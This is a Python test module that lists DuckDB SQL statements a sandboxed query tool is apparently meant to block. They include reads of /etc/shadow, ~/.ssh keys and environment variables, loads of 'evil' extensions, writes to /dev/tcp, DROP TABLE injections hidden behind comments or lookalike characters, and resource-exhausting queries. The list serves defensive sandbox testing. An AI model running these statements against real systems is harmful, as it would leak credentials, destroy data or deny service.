"""Statements that reach for files, the network, settings, writes, the session or the whole machine.

A line each; `canary.csv` is a file beside, `OUT` becomes a path that must not exist afterwards.
"""

FILES = """\
SELECT * FROM 'canary.csv'
FROM 'canary.csv'
FROM "canary.csv"
SELECT * FROM './canary.csv'
SELECT * FROM '/etc/passwd'
FROM '/proc/self/environ'
FROM 'file:///etc/passwd'
FROM '*.csv'
FROM '**/*.csv'
FROM 'canary.parquet'
FROM 'canary.json'
FROM 'canary.duckdb'
FROM read_csv('canary.csv')
FROM read_csv(['canary.csv', 'canary.csv'])
FROM read_csv_auto('canary.csv')
FROM read_csv('/dev/stdin')
FROM read_csv('/dev/tcp/localhost/80')
FROM read_text('canary.csv')
FROM read_text('/proc/self/cmdline')
FROM read_blob('canary.csv')
FROM read_blob('/etc/shadow')
FROM read_json('canary.csv')
FROM read_json_auto('canary.csv')
FROM read_json_objects('canary.csv')
FROM read_json_objects_auto('canary.csv')
FROM read_ndjson('canary.csv')
FROM read_ndjson_auto('canary.csv')
FROM read_ndjson_objects('canary.csv')
FROM read_parquet('canary.csv')
FROM parquet_scan('canary.csv')
FROM parquet_metadata('canary.csv')
FROM parquet_schema('canary.csv')
FROM parquet_file_metadata('canary.csv')
FROM parquet_kv_metadata('canary.csv')
FROM parquet_full_metadata('canary.csv')
FROM parquet_bloom_probe('canary.csv', 'words', 'x')
FROM read_duckdb('councils.duckdb')
FROM sniff_csv('canary.csv')
FROM glob('*')
FROM glob('/home/**')
FROM glob('/root/.ssh/*')
SELECT count(*) FROM read_csv('canary.csv') AS stolen, judgements
SELECT (SELECT words FROM read_csv('canary.csv')) AS stolen
WITH stolen AS (FROM read_text('/etc/hostname')) FROM stolen
SELECT * FROM judgements WHERE area IN (SELECT words FROM 'canary.csv')
SELECT * FROM judgements UNION ALL SELECT * FROM 'canary.csv'
SELECT * FROM (FROM (FROM read_text('canary.csv')))
FROM read_excel('canary.xlsx')
FROM read_xlsx('canary.xlsx')
FROM st_read('canary.csv')
FROM sqlite_scan('canary.db', 't')
FROM postgres_scan('host=localhost', 'public', 't')
FROM mysql_scan('host=localhost', 'public', 't')
FROM iceberg_scan('canary')
FROM delta_scan('canary')
FROM query('FROM read_text(''canary.csv'')')
FROM query('SELECT 1')
FROM query_table('canary.csv')
FROM json_execute_serialized_sql('{}')
DESCRIBE FROM read_csv('canary.csv')
SUMMARIZE FROM read_csv('canary.csv')
EXPLAIN FROM read_csv('canary.csv')
EXPLAIN ANALYZE FROM read_text('canary.csv')
PIVOT read_csv('canary.csv') ON words USING count(*)
UNPIVOT (FROM read_csv('canary.csv')) ON words INTO NAME a VALUE b
FROM seq_scan('x')
FROM arrow_scan(1, 2, 3)
FROM pandas_scan(1)
FROM python_map_function(1)"""

NETWORK = """\
FROM 'https://example.org/data.csv'
FROM 'http://localhost:80/'
FROM 's3://bucket/key.parquet'
FROM 'gcs://bucket/key.parquet'
FROM 'azure://container/key'
FROM 'hf://datasets/a/b/c.parquet'
FROM read_csv('https://example.org/data.csv')
FROM read_parquet('s3://bucket/key.parquet')
FROM read_text('http://localhost/')
FROM read_json('https://example.org/x.json')
INSTALL httpfs
INSTALL httpfs FROM community
INSTALL 'https://example.org/evil.duckdb_extension'
FORCE INSTALL json
LOAD httpfs
LOAD 'evil.duckdb_extension'
LOAD '/tmp/evil.so'
UPDATE EXTENSIONS
CREATE SECRET hidden (TYPE s3, KEY_ID 'a', SECRET 'b')
CREATE PERSISTENT SECRET hidden (TYPE s3)
DROP SECRET hidden
FROM duckdb_secrets()
FROM which_secret('s3://bucket', 's3')
FROM duckdb_extensions()
CALL start_ui()"""

WRITES = """\
COPY judgements TO 'OUT'
COPY (SELECT 1) TO 'OUT' (FORMAT parquet)
COPY (SELECT 1) TO '/dev/stdout'
COPY judgements FROM 'canary.csv'
COPY FROM DATABASE councils TO memory
EXPORT DATABASE 'OUT'
IMPORT DATABASE 'OUT'
EXPLAIN COPY judgements TO 'OUT'
EXPLAIN ANALYZE COPY judgements TO 'OUT'
EXPLAIN ANALYZE DELETE FROM judgements
EXPLAIN ANALYZE CREATE TEMP TABLE t AS SELECT 1
ATTACH 'OUT' AS other
ATTACH ':memory:' AS other
ATTACH IF NOT EXISTS 'OUT' (READ_ONLY)
ATTACH 'councils.duckdb' AS again (READ_WRITE)
DETACH councils
USE memory
CREATE TABLE t (a INTEGER)
CREATE TEMP TABLE t AS SELECT * FROM judgements
CREATE OR REPLACE TABLE judgements AS SELECT 1 AS a
CREATE VIEW v AS SELECT 1 AS a
CREATE TEMP VIEW judgements AS SELECT 'outstanding' AS grade
CREATE MACRO as_at(x) AS TABLE SELECT 1
CREATE TEMP MACRO name_key(x) AS x
CREATE TYPE t AS ENUM ('a')
CREATE SEQUENCE s
CREATE SCHEMA s
CREATE INDEX i ON judgements (area)
INSERT INTO judgements SELECT * FROM judgements
INSERT OR REPLACE INTO judgements SELECT * FROM judgements
UPDATE judgements SET grade = 'outstanding'
DELETE FROM judgements
DELETE FROM judgements WHERE la_code = '881' RETURNING *
TRUNCATE judgements
MERGE INTO judgements USING judgements AS other ON false WHEN NOT MATCHED THEN INSERT
DROP TABLE judgements
DROP VIEW latest_judgements
DROP MACRO TABLE as_at
DROP SCHEMA main CASCADE
ALTER TABLE judgements RENAME TO gone
ALTER TABLE judgements ADD COLUMN a INTEGER
ALTER TABLE judgements DROP COLUMN grade
COMMENT ON TABLE judgements IS 'changed'
VACUUM
VACUUM judgements
ANALYZE
CHECKPOINT
FORCE CHECKPOINT
FROM checkpoint()
FROM force_checkpoint()
BEGIN
COMMIT
ROLLBACK
WITH gone AS (DELETE FROM judgements RETURNING *) FROM gone"""

SESSION = """\
SET memory_limit = '100GB'
SET threads = 64
SET GLOBAL enable_external_access = true
SET enable_external_access = true
SET lock_configuration = false
SET temp_directory = 'OUT'
SET home_directory = '/'
SET extension_directory = 'OUT'
SET custom_extension_repository = 'http://localhost'
SET allow_unsigned_extensions = true
SET python_enable_replacements = true
SET search_path = 'pg_catalog'
SET profiling_output = 'OUT'
SET log_query_path = 'OUT'
SET VARIABLE v = 1
RESET memory_limit
RESET lock_configuration
RESET VARIABLE v
PRAGMA memory_limit = '100GB'
PRAGMA threads = 64
PRAGMA enable_profiling
PRAGMA enable_profiling = 'json'
PRAGMA profiling_output = 'OUT'
PRAGMA disable_optimizer
PRAGMA enable_verification
PRAGMA verify_parallelism
PRAGMA database_list
PRAGMA import_database('OUT')
PRAGMA copy_database('councils', 'memory')
PRAGMA json_execute_serialized_sql('{}')
PRAGMA table_info('judgements')
PRAGMA version
PRAGMA storage_info('judgements')
CALL pragma_version()
CALL enable_logging()
CALL enable_profiling(save_location = 'OUT')
FROM enable_profiling(format = 'json', save_location = 'OUT')
FROM enable_profiling()
FROM disable_profiling()
FROM enable_logging(storage = 'file', storage_path = 'OUT')
FROM enable_logging()
FROM disable_logging()
FROM truncate_duckdb_logs()
FROM duckdb_logs()
FROM duckdb_settings()
FROM duckdb_variables()
FROM duckdb_memory()
FROM duckdb_temporary_files()
FROM duckdb_prepared_statements()
FROM duckdb_connection_count()
SELECT getenv('HOME')
SELECT getenv('PATH') || (SELECT 'x')
SELECT current_setting('secret_directory')
SELECT write_log('x')
SELECT sleep_ms(100000)
SELECT nextval('s')
SELECT setseed(0.5)
PREPARE p AS SELECT 1
EXECUTE p
DEALLOCATE p
SELECT 1; SELECT 2
SELECT 1; DROP TABLE judgements
SELECT 1;; SET threads = 8
SELECT 1 /* ; */; /* a comment */ COPY judgements TO 'OUT'
SELECT 1) ; DROP TABLE judgements; --
SELECT 1 -- ; DROP TABLE judgements\f; SELECT 2
/* SELECT 1 */ DROP TABLE judgements
-- SELECT 1
;
SELECT * FROM local_frame
SELECT * FROM local_rows
FROM local_table
SELECT sum(a) FROM local_frame, judgements
SELECT 1 LIMIT 1) AS x, read_text('canary.csv'"""

# Newer syntax and names: every way to call a closed function, files in every quoting, views of the engine, characters
# that look like others.
NEWER = """\
FROM pg_catalog.pg_settings
FROM pg_settings
FROM duckdb_logs
FROM duckdb_settings
FROM duckdb_databases
FROM duckdb_databases()
SHOW memory_limit
SHOW SECRETS
SELECT pg_sleep(100)
SELECT pg_sleep(0.1)
SELECT main.sleep_ms(100)
SELECT system.main.getenv('HOME')
SELECT "getenv"('HOME')
SELECT GETENV('HOME')
SELECT 'HOME'.getenv()
SELECT list_transform(['HOME'], x -> getenv(x))
SELECT list_transform(['HOME'], lambda x: getenv(x))
SELECT [getenv(x) for x in ['HOME']]
SELECT 'HOME'.getenv().upper()
SELECT list_aggregate([1], 'getenv')
SELECT count(*) FILTER (getenv('HOME') = 'x') FROM judgements
SELECT 1 ORDER BY getenv('HOME')
SELECT 1 LIMIT (SELECT length(getenv('HOME')))
SELECT 1 LIMIT length(getenv('HOME'))
SELECT sum(1) OVER (PARTITION BY getenv('HOME')) FROM judgements
SELECT * EXCLUDE (la_code) REPLACE (getenv('HOME') AS area) FROM judgements
SELECT COLUMNS(c -> getenv('HOME') IS NOT NULL) FROM judgements
SELECT json_serialize_plan('SELECT * FROM read_text(''canary.csv'')')
SELECT parse_duckdb_log_message('FileSystem', 'x')
SELECT pg_conf_load_time()
FROM histogram('canary.csv', words)
FROM histogram_values('canary.csv', words)
FROM histogram('judgements', area)
FROM histogram('duckdb_settings', name)
FROM summary('canary.csv')
FROM pragma_show('judgements')
FROM pragma_table_info('canary.csv')
FROM pragma_user_agent()
FROM pragma_platform()
FROM pragma_database_size()
FROM pragma_storage_info('judgements')
FROM pragma_metadata_info()
FROM duckdb_logs_parsed('FileSystem')
FROM duckdb_profiling_settings()
FROM duckdb_external_file_cache()
FROM duckdb_secret_types()
FROM duckdb_keywords()
FROM duckdb_log_contexts()
FROM duckdb_optimizers()
FROM repeat_row(1, 2, num_rows=1000000000000)
FROM test_all_types()
FROM test_vector_types(NULL::INTEGER)
FROM system.main.read_text('canary.csv')
FROM main.read_text('canary.csv')
FROM "read_text"('canary.csv')
FROM read_text('canary.csv') WITH ORDINALITY
FROM judgements, LATERAL (FROM read_text('canary.csv'))
FROM judgements j, read_text(j.area)
FROM judgements POSITIONAL JOIN read_text('canary.csv')
FROM judgements ASOF JOIN read_text('canary.csv') AS x ON judgements.row >= x.size
FROM '~/.ssh/id_rsa'
FROM '~/.ssh/*'
FROM 'canary.csv' TABLESAMPLE 10%
FROM 'zip://a.zip/b.csv'
FROM 'data:text/csv,a%0A1'
FROM E'canary.csv'
FROM $$canary.csv$$
FROM $a$canary.csv$a$
FROM read_text($$canary.csv$$)
FROM U&'canary.csv'
FROM "canary.csv" AS "judgements"
FROM main."canary.csv"
FROM memory.main."canary.csv"
FROM own."../canary.csv"
FROM councils.main."canary.csv"
FROM VALUES ('canary.csv') t(f), read_csv(t.f)
WITH f AS MATERIALIZED (SELECT content FROM read_text('canary.csv')) SELECT * FROM f
WITH RECURSIVE r USING KEY (a) AS (SELECT 1 AS a, 0 AS b UNION ALL SELECT a, b + 1 FROM r) FROM r
WITH a AS (ATTACH 'x.db') SELECT 1
WITH a AS (COPY judgements TO 'OUT') FROM a
WITH a AS (INSERT INTO judgements SELECT * FROM judgements RETURNING *) FROM a
FROM (COPY judgements TO 'OUT')
FROM (ATTACH 'OUT')
FROM (CALL enable_profiling(save_location = 'OUT'))
FROM (PIVOT read_text('canary.csv') ON filename IN ('a') USING count(*))
DESCRIBE read_text('canary.csv')
DESCRIBE TABLE 'canary.csv'
SUMMARIZE 'canary.csv'
SHOW 'canary.csv'
EXPLAIN (FORMAT json, ANALYZE) FROM read_text('canary.csv')
EXPLAIN PREPARE p AS SELECT 1
EXPLAIN SELECT 1; DROP TABLE judgements
EXPLAIN CALL enable_logging()
EXPLAIN ANALYZE CALL enable_profiling(save_location = 'OUT')
EXPLAIN ANALYZE INSERT INTO judgements SELECT * FROM judgements
EXPLAIN/**/ANALYZE/**/FROM read_text('canary.csv')
VALUES (getenv('HOME'))
TABLE 'canary.csv'
SET VARIABLE x = (FROM read_text('canary.csv'))
SET SESSION threads = 1
PRAGMA user_agent
PRAGMA show_tables
PRAGMA functions
.read canary.csv
\\! id
CREATE MACRO m() AS TABLE FROM read_text('canary.csv'); FROM m()
CREATE OR REPLACE TEMP TRIGGER t AFTER INSERT ON judgements BEGIN SELECT 1; END
CREATE FUNCTION f(x) AS x
CREATE TABLE t AS FROM read_text('canary.csv')
CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')
COPY (FROM read_text('canary.csv')) TO 'OUT' (FORMAT csv)
COPY judgements TO 'OUT' (FORMAT parquet, PARTITION_BY (area))
COPY (SELECT 1) TO 'OUT' WITH (FORMAT json, COMPRESSION gzip)
COPY (SELECT 1) TO '/dev/tcp/127.0.0.1/80'
COPY FROM DATABASE councils TO own
ATTACH 'ducklake:OUT' AS lake
ATTACH 'https://example.org/x.duckdb' AS web (READ_ONLY)
ATTACH 'host=localhost' AS pg (TYPE postgres)
ATTACH DATABASE 'OUT' AS x (ENCRYPTION_KEY 'k')
ATTACH OR REPLACE 'OUT' AS councils
DETACH own
USE own
USE system
ALTER DATABASE councils SET ALIAS TO x
ALTER TABLE judgements SET SORTED BY (area)
UPDATE EXTENSIONS (httpfs)
INSTALL 'canary.csv'
LOAD parquet
LOAD json
INSTALL json FROM 'http://localhost'
CALL checkpoint()
CALL pragma_storage_info('judgements')
CALL duckdb_secrets()
CALL force_checkpoint('own')
CALL query('SELECT 1')
BEGIN TRANSACTION READ WRITE
ABORT
EXECUTE councils_query
EXECUTE councils_query(la := 'x')
PREPARE v1 AS COPY judgements TO 'OUT'
DEALLOCATE ALL
LISTEN x
GRANT ALL ON judgements TO x
DO $$ SELECT 1 $$
SELECT * INTO t FROM judgements
SELECT 1 FOR UPDATE
SELECT 1；DROP TABLE judgements
SELECT 1 –– DROP
SELECT '\u202e'; DROP TABLE judgements
SELECT "\u202e"
ＳＥＬＥＣＴ 1
SELECT gеtenv('HOME')
) ; DROP TABLE judgements; SELECT (1
SELECT 1) LIMIT 1; DROP TABLE judgements --
SELECT 1 FROM (SELECT 1) x) y; SELECT 2
SELECT 1 LIMIT 1 OFFSET (SELECT count(*) FROM read_text('canary.csv'))
FROM unnest([getenv('HOME')])
FROM range(length(getenv('HOME')))
FROM generate_series(1, length(getenv('HOME')))
FROM json_each(getenv('HOME'))
FROM as_at(getenv('HOME'))
FROM as_at((SELECT content FROM read_text('canary.csv')))
FROM nearest_figure(getenv('HOME'), 'looked_after', DATE '2020-01-01')
FROM query_table(['judgements', 'canary.csv'])
FROM query_table('duckdb_settings')
SELECT query('SELECT 1')
SELECT nextval('x') FROM judgements
SELECT make_type('INTEGER')
SELECT getvariable(getenv('HOME'))
MERGE INTO judgements USING (FROM read_text('canary.csv')) s ON true WHEN MATCHED THEN DELETE
FROM histogram('pg_settings', name)
FROM histogram_values('duckdb_settings', name)
FROM PG_CATALOG.PG_SETTINGS
FROM pragma_database_list
WITH pg_settings AS (SELECT 1) FROM pg_catalog.pg_settings
SELECT json_serialize_plan('FROM enable_profiling(save_location = ''OUT'')')
SELECT now()
SELECT error(chr(27) || '[2J')
SELECT error(repeat('x', 100000))"""

# Answered, since nothing is reached or changed by them: rows of the catalogue, texts, plans that are not run.
HARMLESS = """\
SHOW DATABASES
SHOW ALL TABLES
FROM sqlite_master
FROM information_schema.tables
FROM (DESCRIBE judgements)
TABLE judgements
SELECT getenv FROM (SELECT 1 AS getenv)
FROM range(1) t(getenv)
SELECT getvariable('x')
SELECT current_query()
SELECT version()
SELECT json_deserialize_sql(json_serialize_sql('SELECT getenv(''HOME'')'))
SELECT 'getenv(''HOME''); DROP TABLE judgements'
SELECT 1 AS "DROP TABLE judgements"
SELECT 1 -- ; COPY judgements TO 'OUT'
SELECT /* COPY judgements TO 'OUT' */ 1
SELECT chr(27) || '[2J'
SELECT chr(0)
SELECT regexp_replace(repeat('a', 30000), '(a*)*b', 'x')
SELECT json_valid(repeat('[', 100000))
EXPLAIN SELECT sum(range) FROM range(1000000000000)
EXPLAIN ANALYZE SELECT sum(range) FROM range(1000000000000)
SELECT now()::DATE
SELECT random()"""

# Their limits are set small for the test: half a second, and a part of the memory.
BOMBS = {
    "cross join": "SELECT count(*) FROM judgements a, judgements b, judgements c, judgements d",
    "cross join of rows": "SELECT * FROM judgements a, judgements b, judgements c ORDER BY hash(a.area, b.area, c.area)",
    "range sum": "SELECT sum(range) FROM range(1000000000000)",
    "generate_series": "SELECT count(*) FROM generate_series(1, 1000000000000)",
    "endless recursion": "WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM r) SELECT max(i) FROM r",
    "doubling recursion": (
        "WITH RECURSIVE r AS (SELECT 'x' AS s UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r"
    ),
    "recursive cross join": (
        "WITH RECURSIVE r AS (SELECT 1 AS i UNION ALL SELECT r.i + 1 FROM r, judgements) SELECT count(*) FROM r"
    ),
    "huge text": "SELECT length(repeat('x', 4000000000))",
    "huge padding": "SELECT length(lpad('x', 2000000000, 'y'))",
    "huge list": "SELECT len(range(3000000000))",
    "huge sorted list": "SELECT len(list_sort(range(300000000)))",
    "huge format": "SELECT length(format('{:>2000000000}', 'x'))",
    "huge aggregate": "SELECT length(string_agg(repeat('x', 1000000), '')) FROM range(100000)",
    "huge array": "SELECT array_agg(a.inspection_id || b.inspection_id) FROM judgements a, judgements b, range(1000)",
    "huge distinct": "SELECT count(DISTINCT hash(range)) FROM range(100000000000)",
    "huge sort": "SELECT * FROM range(3000000000) ORDER BY hash(range)",
    "huge window": "SELECT max(s) FROM (SELECT sum(range) OVER (ORDER BY hash(range)) AS s FROM range(3000000000))",
    "long text of SQL": "SELECT " + "+".join(["1"] * 40000),
    "deep sum": "SELECT " + "+".join(["1"] * 20000),
    "deep brackets": "SELECT " + "(" * 20000 + "1" + ")" * 20000,
    "deep subqueries": "SELECT * FROM " + "(SELECT * FROM " * 1500 + "judgements" + ")" * 1500,
    "deep functions": "SELECT " + "abs(" * 5000 + "1" + ")" * 5000,
    "deep lists": "SELECT " + "[" * 5000 + "1" + "]" * 5000,
    "deep case": "SELECT " + "CASE WHEN true THEN " * 1000 + "1" + " END" * 1000,
    "deep not": "SELECT " + "NOT " * 10000 + "true",
    "deep minus": "SELECT " + "- " * 20000 + "1",
    "deep exists": "SELECT 1 WHERE " + "EXISTS (SELECT 1 WHERE " * 800 + "true" + ")" * 800,
    "nul character": "SELECT 1 \x00; DROP TABLE judgements",
    "unclosed comment": "SELECT 1 /* DROP TABLE judgements",
    "unclosed text": "SELECT 'a",
    "lambda doubling a text": "SELECT length(list_reduce(['x' FOR i IN range(60)], lambda a, b: a || a))",
    "lambda doubling a list": "SELECT len(list_reduce(list_transform(range(60), lambda i: [1]), lambda a, b: list_concat(a, a)))",
    "lambda in a lambda in a lambda": "SELECT list_transform(range(100000), lambda x: list_transform(range(100000), lambda y: list_transform(range(100000), lambda z: z)))",
    "unnest of ranges": "SELECT count(*) FROM (SELECT unnest(range(1000000)) FROM range(1000000))",
    "regular expression of a million": "SELECT regexp_matches('x', repeat('(', 10000))",
    "replacement that grows": "SELECT regexp_replace(repeat('a', 10000000), 'a', repeat('b', 10000), 'g')",
    "plain replacement that grows": "SELECT length(replace(repeat('a', 1000000), 'a', repeat('b', 1000000)))",
    "wide number": "SELECT length(printf('%2000000000d', 1))",
    "bracket text as a list": "SELECT CAST(repeat('[', 30000) AS INTEGER[])",
    "long JSON": "SELECT from_json('[' || repeat('1,', 100000000) || '1]', '[\"INTEGER\"]')",
    "deep SQL in a text": "SELECT json_deserialize_sql(json_serialize_sql('SELECT ' || repeat('1+', 3000) || '1'))",
    "huge map": "SELECT map_from_entries(list_transform(range(300000000), lambda x: (x, x)))",
    "huge quantile": "SELECT quantile_cont(range, 0.5) FROM range(10000000000)",
    "huge histogram": "SELECT histogram(range) FROM range(1000000000)",
    "cube of every column": "SELECT * FROM judgements GROUP BY CUBE (inspection_id, la_code, area, grade, grade_printed, sources_differ, source_kind, source_id, release, file_id, sheet, row, page)",
    "every microsecond": "SELECT * FROM generate_series(TIMESTAMP '0001-01-01', TIMESTAMP '9999-01-01', INTERVAL 1 microsecond) ORDER BY 1 DESC",
    "recursion by key": "WITH RECURSIVE r USING KEY (a) AS (SELECT 1 AS a, 0 AS b UNION ALL SELECT a, b + 1 FROM r) FROM r",
    "recursion doubling a list": "WITH RECURSIVE r AS (SELECT [1] AS l UNION ALL SELECT list_concat(l, l) FROM r) SELECT max(len(l)) FROM r",
    "recursion doubling JSON": "WITH RECURSIVE r AS (SELECT {'a': 1}::JSON AS j UNION ALL SELECT json_object('a', j, 'b', j) FROM r) SELECT max(length(j::VARCHAR)) FROM r",
    "rows that double by WITH": "WITH a AS (FROM range(1000) t(i)), b AS (SELECT a.i FROM a, a a2), c AS (SELECT b.i FROM b, b b2), d AS (SELECT c.i FROM c, c c2) SELECT count(*) FROM d, d d2",
    "correlated subqueries": "SELECT (SELECT count(*) FROM judgements j2 WHERE EXISTS (SELECT 1 FROM judgements j3, judgements j4 WHERE j3.row + j4.row > j2.row + j.row AND hash(j3.row, j4.row, j.row) = 1)) FROM judgements j",
    "macros joined": "SELECT * FROM as_at('2019-03-31'), as_at('2020-03-31'), as_at('2021-03-31'), as_at('2022-03-31')",
    "wide rows": "SELECT x.* FROM (SELECT COLUMNS(*) FROM area_statistics) x, area_statistics y, area_statistics z",
    "long rows": "SELECT repeat('x', 1000000) FROM range(100000)",
    "wide window": "SELECT max(x) FROM (SELECT sum(random()) OVER (ORDER BY range ROWS BETWEEN 100000000 PRECEDING AND CURRENT ROW) x FROM range(100000000))",
    "text of a huge list": "SELECT array_to_string(list_transform(range(100000000), lambda x: 'xxxxxxxxxxxxxxxxxxxx'), '')",
}


def all_statements() -> list[tuple[str, str]]:
    """(name, statement) of each, in order; a line's name is the line."""
    lines = [
        line.replace("\f", "\n")
        for block in (FILES, NETWORK, WRITES, SESSION, NEWER)
        for line in block.split("\n")
    ]
    return [(line, line) for line in lines] + list(BOMBS.items())


def harmless_statements() -> list[str]:
    """Those that are answered, and leave everything as it was."""
    return HARMLESS.split("\n")
